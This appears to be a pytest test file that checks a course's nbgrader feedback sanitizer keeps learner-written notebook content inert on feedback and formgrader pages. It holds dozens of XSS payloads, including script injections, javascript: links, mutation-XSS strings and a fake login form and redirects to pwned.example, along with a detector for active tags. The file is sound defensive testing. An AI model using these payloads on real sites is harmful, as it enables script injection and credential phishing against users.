"""Nothing that learners write is active on a page that shows it; what lessons and verdicts show is still there."""

from __future__ import annotations

import re
import time
from collections import Counter
from collections.abc import Iterator
from types import SimpleNamespace

import nbformat
import pytest
from bleach._vendor import html5lib  # parses like a browser
from bs4 import BeautifulSoup
from nbconvert import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from nbgrader.api import Gradebook
from nbgrader.server_extensions.formgrader.formgrader import FormgradeExtension
from traitlets.config.loader import PyFileConfigLoader

from course_utils.grading.nbgrader_plugins import feedback
from course_utils.grading.nbgrader_plugins.feedback import clean
from tools.bench_pages import Pages
from tools.classroom import Classroom
from tools.notebooks import ROOT

ASSIGNMENT = "03_lstm"
PICTURE = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
LESSON = r"""# A lesson

| gate | rows |
|:-----|-----:|
| i    | 0:H  |

Where $i_t < 1$ and $$\sum_t h_t & c$$ hold: ![a dot](attachment:dot.png)

<details><summary>Hint</summary>

Read **this**.

</details>

```python
h = torch.zeros(3)
```
"""
LIVE = [
    "<script>alert('pwned')</script>",
    "<SCRIPT SRC=//pwned.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<b onmouseover=alert(1)>pwned</b>",
    "<details open ontoggle=alert(1)>pwned</details>",
    "<svg onload=alert(1)><script>alert('pwned')</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>pwned</text></a></svg>",
    "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>pwned</maction></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<embed src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<form action='https://pwned.example'><input name='password'><button>Log in</button></form>",
    "<meta http-equiv='refresh' content='0;url=https://pwned.example'>",
    "<base href='https://pwned.example/'>",
    "<link rel='stylesheet' href='https://pwned.example/x.css'>",
    "<style>body { background: url(https://pwned.example) }</style>",
    "<a href='javascript:alert(1)'>pwned</a>",
    "<a href='JaVa\tScRiPt:alert(1)'>pwned</a>",
    "<a href='&#106;avascript&colon;alert(1)'>pwned</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>pwned</a>",
    "[pwned](javascript:alert(1))",
    "[pwned][link]\n\n[link]: <javascript:alert(1)>",
    "<javascript:alert(1)>",
    "![pwned](javascript:alert(1))",
    "[pwned](evil.html)",
    "<a href='../../../files/evil.html'>pwned</a>",
    "```mermaid\n<img src=x onerror=alert('pwned')>\n```",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<!--><script>alert('pwned')</script>-->",
    "</div></div></body></html><script>alert('pwned')</script>",
    "<textarea class='comment' id='essay-comment'>pwned</textarea>",
    "<div style='position:fixed;inset:0;background:url(javascript:alert(1))'>pwned</div>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
]
INERT = [  # in Markdown as nbconvert reads it
    "<img/src=x/onerror=alert('pwned')//",
    '![pwned](x"onerror="alert(1))',
    "$<img src=x onerror=alert(1)>$",
    "$\\href{javascript:alert('pwned')}{x}$",
    "$\\text{<script>alert('pwned')</script>}$",
    "\\begin{align}<script>alert('pwned')</script>\\end{align}",
    "$$\n</div><script>alert('pwned')</script>\n$$",
    "```<script>alert('pwned')</script>\n```",
    "`</code><script>alert('pwned')</script>`",
    "<![CDATA[<script>alert('pwned')</script>]]>",
]
PAYLOADS = LIVE + INERT
MISSING = [  # pictures, which nbconvert refuses to show, and with them the whole notebook
    "![a *dot*](attachment:missing.png)",
    "![a *dot*][r]\n\n[r]: attachment:missing.png",
    "![a *dot*](&#97;ttachment:missing.png)",
    "![a *dot*](attachment\\:missing.png)",
]
ENDLESS = [
    "<b>",
    "<div>",
    "<table>",
    "<a ",
    "<",
    "&",
    " ",
    "$a",
    "$a^{$",
    "$\\sqrt{a}$",
    "$\\frac a",
    "$$a$$",
    "\\begin{a}",
    "\\\\[",
    "[a](",
    "> ",
    "- ",
    "*a ",
    "```a\n~~~\n",
]
TAGS = {
    "script", "iframe", "frame", "object", "embed", "form", "input", "button", "textarea", "select", "meta", "base",
    "link", "style", "svg", "maction", "mglyph", "annotation-xml", "template", "noscript", "audio", "video", "applet",
}  # fmt: skip


def active(page: str) -> Counter[str]:
    """Everything in a page that is active, as found by two parsers."""
    found: list[str] = []
    for tag, attributes in [*as_python_sees_it(page), *as_a_browser_sees_it(page)]:
        if tag in TAGS:
            found.append(f"{tag} {sorted(attributes.items())}")
        for name, value in attributes.items():
            there = re.sub(r"[\s\x00-\x20]", "", value).casefold()
            leads = name in ("href", "src", "action", "formaction", "data", "xlink:href")
            unwanted = there.startswith(("javascript:", "vbscript:", "data:text")) or there.endswith("evil.html")
            covers = name == "style" and "position" in value
            if name.startswith("on") or name == "srcdoc" or covers or (leads and unwanted):
                found.append(f"{tag} {name}={value}")
    return Counter(found)


def as_python_sees_it(page: str) -> Iterator[tuple[str, dict[str, str]]]:
    for element in BeautifulSoup(page, "html.parser").find_all(True):
        yield element.name, {name: str(value) for name, value in element.attrs.items()}


def as_a_browser_sees_it(page: str) -> Iterator[tuple[str, dict[str, str]]]:
    for element in html5lib.parse(page, treebuilder="etree", namespaceHTMLElements=False).iter():
        if isinstance(element.tag, str):
            names = {key: key.replace("{http://www.w3.org/1999/xlink}", "xlink:") for key in element.attrib}
            yield element.tag.rpartition("}")[2], {names[key]: value for key, value in element.attrib.items()}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_does_nothing_once_it_is_cleaned(payload: str) -> None:
    exporter = HTMLExporter(template_name="basic")
    page = exporter.from_notebook_node(new_notebook(cells=[new_markdown_cell(payload)]))[0]
    assert bool(active(page)) == (payload in LIVE)
    assert not active(clean(page))


def test_html_that_was_shown_without_locks_does_nothing() -> None:
    config = PyFileConfigLoader("nbgrader_config.py", path=str(ROOT)).load_config()
    exporter = HTMLExporter(template_name="basic", template_file="index.html.j2", config=config)
    outputs = [new_output("display_data", data={"text/html": payload}) for payload in PAYLOADS]
    outputs += [new_output("display_data", data={"application/javascript": "alert('pwned')"})]
    assert not active(exporter.from_notebook_node(new_notebook(cells=[new_code_cell(outputs=outputs)]))[0])


def test_a_learners_html_has_no_names_that_formgrader_looks_for() -> None:
    assert clean('<p id="step" name="step" class="score">x</p>') == "<p>x</p>"


def test_pictures_links_and_verdicts_survive() -> None:
    for whole in (
        '<img alt="a dot" src="data:image/png;base64,AAAA">',
        '<a href="https://pytorch.org/docs#x" title="docs">docs</a>',
        '<a href="#step">above</a>',
        '<div style="border-left: 4px solid; padding: 0.3em 0.8em; border-color: #1a7f37;">✓</div>',
        '<span style="display: inline-block; min-width: 6.5em;">try</span>',
    ):
        assert clean(whole) == whole


def test_what_looks_like_a_link_is_one() -> None:
    assert clean('<p><a href="../../notebooks/03_lstm.ipynb#Two-biases">Two <b>biases</b></a></p>') == (
        "<p>Two <b>biases</b></p>"
    )
    assert clean('<a>x <a href="#step">above</a></a>') == 'x <a href="#step">above</a>'


def test_formulas_are_drawn_by_the_browser_itself() -> None:
    text = r"""Of $h_t$ and \\(c_t\\): $$c_t = f_t \odot c_{t-1} + i_t \odot g_t$$ $\unknown$

\begin{align} a &= [b] \\ c &= d \end{align}
"""
    output = new_output("display_data", data={"text/latex": r"$\displaystyle x^{2}$", "text/plain": "x**2"})
    shown = Pages().of(new_notebook(cells=[new_markdown_cell(text), new_code_cell("x", outputs=[output])]))
    soup = BeautifulSoup(shown, "html.parser")
    assert [len(soup.select(each)) for each in ("math", "math[display=block]", "msub", "mtr")] == [5, 2, 7, 2]
    assert soup.select_one(".output_latex math msup")
    assert r"$\unknown$" in soup.text


def page(*cells: nbformat.NotebookNode) -> str:
    """The page of these cells, made in the same way as in a course."""
    config = PyFileConfigLoader("nbgrader_config.py", path=str(ROOT)).load_config()
    exporter = HTMLExporter(template_name="basic", template_file="index.html.j2", config=config)
    shown: str = exporter.from_notebook_node(new_notebook(cells=[*cells]))[0]
    return shown


@pytest.mark.parametrize("source", MISSING)
def test_a_picture_that_is_missing_is_shown_as_its_words(source: str) -> None:
    assert "<p>a dot</p>" in page(new_markdown_cell(source))
    assert "<p>a dot</p>" in page(new_markdown_cell(source, attachments={"missing.png": {}}))


def test_what_trips_nbconvert_is_shown_as_it_was_written(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(feedback, "MarkdownWithMath", lambda **_: 1 / 0)
    assert ">*not* &lt;b&gt;</pre>" in page(new_markdown_cell("*not* <b>"))


def test_a_large_picture_in_the_text_itself_is_a_picture() -> None:
    """Colab writes pictures so; attachments become the same HTML."""
    picture = PICTURE * 10_000
    for cell in (
        new_markdown_cell(f"![a dot](data:image/png;base64,{picture})"),
        new_markdown_cell("![a dot](attachment:dot.png)", attachments={"dot.png": {"image/png": picture}}),
    ):
        shown = BeautifulSoup(page(cell), "html.parser").select_one("img")
        assert shown
        assert shown["src"] == f"data:image/png;base64,{picture}"


def test_nothing_hides_or_pushes_the_page_away() -> None:
    for style in (
        "padding:99999999px",
        "padding: 9e9px",
        "display: NONE",
        "display:n\\6fne",
        "min-width:calc(9em * 99)",
    ):
        assert clean(f'<div style="{style}">x</div>') == "<div>x</div>"
    for size in ("width=99999", "height=1e9", "colspan=65534", "rowspan=-1", "start=99999999"):
        assert clean(f"<img {size} alt=x>") == "x"
        assert not re.search(r"\d", clean(f"<table {size}><tr><td {size}>x</td></tr></table>"))


def test_elements_that_do_not_end_are_not_opened_anew_without_end() -> None:
    inner = "<p>" + "".join(f"<b title={number}>" for number in range(1_000)) + "<p>x" * 1_000
    assert clean(inner).startswith("<pre")
    assert len(clean(inner)) < 10 * len(inner)


@pytest.mark.parametrize("piece", ENDLESS)
def test_no_text_takes_long(piece: str) -> None:
    for length in (9_990, 100_000):
        text = "a" + (piece * length)[:length] + "b"
        began = time.process_time()
        page(new_markdown_cell(text), new_raw_cell(text))
        assert time.process_time() - began < 5  # some take minutes without a limit


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> Classroom:
    """A class of two students; one of them writes payloads into every place where a learner can write."""
    classroom = Classroom(tmp_path_factory.mktemp("feedback") / "course", ASSIGNMENT)
    nbformat.write(assignment(), classroom.folder / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    classroom.release()
    for student in ("honest", "hostile"):
        path = classroom.hand_in(student, {"lstm/split-gates": "def split_gates(weight): return {}"})
        notebook = nbformat.read(path, as_version=4)
        by_id = {cell.id: cell for cell in notebook.cells}
        by_id["plain"].source = "answer = 1"
        by_id["essay"].source = "Because of the *cell*."
        if student == "hostile":
            by_id["essay"].source += "\n\n" + "\n\n".join(PAYLOADS)
            notebook.cells += [new_markdown_cell(payload) for payload in PAYLOADS]
            notebook.cells += [new_raw_cell(payload) for payload in PAYLOADS]
            source = f"from IPython.display import *\nfor each in {PAYLOADS!r}:\n    print(each)\n"
            source += "    display(HTML(each), Latex(each), Markdown(each), each)\n"
            source += "    display({'image/png': '\">' + each}, raw=True)\n    display(Javascript(each))\n"
            notebook.cells += [
                new_code_cell(source + "raise ValueError(each)"),
                new_code_cell("%%html\n" + PAYLOADS[0]),
            ]
        nbformat.write(notebook, path)
    classroom.autograde()
    classroom.nbgrader("generate_feedback", ASSIGNMENT)
    return classroom


def assignment() -> nbformat.NotebookNode:
    """A lesson with everything that a page should show, a plain test, one of our exercises and a question in words."""
    grading = {"grade": False, "solution": False, "locked": False, "task": False, "schema_version": 3}

    def nbgrader(name: str, **flags: object) -> dict[str, object]:
        return {"id": name, "metadata": {"nbgrader": grading | flags | {"grade_id": name}}}

    answer, test = {"solution": True}, {"grade": True, "locked": True, "points": 1}
    cells = [
        new_markdown_cell(LESSON, id="lesson", attachments={"dot.png": {"image/png": PICTURE}}),
        new_code_cell("from course_utils import check", id="imports"),
        new_code_cell("### BEGIN SOLUTION\nanswer = 1\n### END SOLUTION", **nbgrader("plain", **answer)),
        new_code_cell("assert answer == 1", **nbgrader("plain-test", **test)),
        new_code_cell("### BEGIN SOLUTION\n### END SOLUTION", **nbgrader("lstm-split-gates-answer", **answer)),
        new_code_cell('check("lstm/split-gates")', **nbgrader("lstm-split-gates-check", **test)),
        new_markdown_cell("Because.", **nbgrader("essay", **answer, grade=True, points=2)),
    ]
    return new_notebook(cells=cells, metadata={"kernelspec": {"name": "python3", "display_name": "Python 3"}})


def of_feedback(classroom: Classroom, student: str) -> str:
    return (classroom.folder / "feedback" / student / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()


def in_formgrader(classroom: Classroom, student: str, patch: pytest.MonkeyPatch) -> str:
    """The page as formgrader's own exporter makes it, in a Jupyter server started in the course's folder."""
    patch.chdir(classroom.folder)
    extension = FormgradeExtension()
    extension.root_dir = str(classroom.folder)
    extension.initialize([])
    server = SimpleNamespace(settings={})
    extension.init_tornado_settings(server)
    path = classroom.folder / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    words = dict.fromkeys(("assignment_id", "notebook_id", "submission_id", "base_url", "last_name", "first_name"), "x")
    resources = {**words, "index": 0, "total": 1, "student": "x", "notebook_path": "x"}
    page: str = server.settings["nbgrader_exporter"].from_filename(str(path), resources=resources)[0]
    return page


@pytest.mark.slow
@pytest.mark.parametrize("page", ["feedback", "formgrader"])
def test_nothing_on_a_page_comes_to_life(page: str, graded: Classroom, monkeypatch: pytest.MonkeyPatch) -> None:
    shown = {
        student: of_feedback(graded, student) if page == "feedback" else in_formgrader(graded, student, monkeypatch)
        for student in ("honest", "hostile")
    }
    assert shown["hostile"].count("pwned") > 100
    assert active(shown["hostile"]) == active(shown["honest"])


@pytest.mark.slow
@pytest.mark.parametrize("page", ["feedback", "formgrader"])
def test_what_belongs_on_a_page_is_there(page: str, graded: Classroom, monkeypatch: pytest.MonkeyPatch) -> None:
    shown = of_feedback(graded, "honest") if page == "feedback" else in_formgrader(graded, "honest", monkeypatch)
    soup = BeautifulSoup(shown, "html.parser")
    assert [cell.text.strip() for cell in soup.select("#notebook td, #notebook th")] == ["gate", "rows", "i", "0:H"]
    assert "right" in soup.select("#notebook td")[1]["style"]
    assert soup.select_one("details > summary").text == "Hint"
    assert soup.select_one("img")["src"] == f"data:image/png;base64,{PICTURE}"
    assert [each.text for each in soup.select("math msub")] == ["it"]
    assert r"$$\sum_t h_t & c$$" in soup.text  # which no one can set
    assert soup.select(".highlight span.mi")
    assert "border-left:4px solid" in soup.select_one(".output_html div")["style"]
    assert "✗" in soup.select_one(".output_html").text
    assert soup.select_one("em").text == "cell"


@pytest.mark.slow
def test_that_a_mark_can_be_forged_is_the_teachers_to_read(graded: Classroom, monkeypatch: pytest.MonkeyPatch) -> None:
    assert in_formgrader(graded, "honest", monkeypatch).count("its result can be forged") == 1
    assert "can be forged" not in of_feedback(graded, "honest")
    with Gradebook(f"sqlite:///{graded.folder / 'gradebook.db'}") as gradebook:
        assert gradebook.find_comment("plain", ASSIGNMENT, ASSIGNMENT, "honest").comment is None
